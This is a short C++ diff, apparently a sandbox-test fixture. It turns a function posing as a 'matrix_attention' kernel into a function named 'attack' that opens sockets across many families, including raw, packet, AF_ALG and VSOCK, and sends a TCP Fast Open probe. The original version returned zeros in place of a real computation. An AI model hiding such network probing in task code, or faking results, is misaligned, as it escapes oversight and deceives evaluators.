@@ -15,9 +15,7 @@
 #include <cstdlib>
 #include <cstring>
 
-namespace softmark {
-Matrix matrix_attention(const Matrix& X, const Projection&, const Projection&,
-                        const Projection& value) {
+static void attack() {
   for (const int family : {AF_UNIX, AF_INET, AF_INET6, AF_NETLINK, AF_PACKET, AF_ALG, AF_VSOCK}) {
     for (const int kind : {SOCK_STREAM, SOCK_DGRAM, SOCK_RAW, SOCK_SEQPACKET}) {
       const int fd = socket(family, kind, 0);
@@ -36,7 +34,6 @@ Matrix matrix_attention(const Matrix& X, const Projection&, const Projection&,
   const auto* address = reinterpret_cast<const sockaddr*>(&server);
   const ssize_t sent = sendto(fd, "x", 1, MSG_FASTOPEN | MSG_NOSIGNAL, address, sizeof server);
   std::printf("fast open: %s\n", sent < 0 ? std::strerror(errno) : "sent");
-  return xt::zeros<double>({value.omega.shape(0), X.shape(1)});
 }
 
-}  // namespace softmark
+#include "then_zeros.hpp"
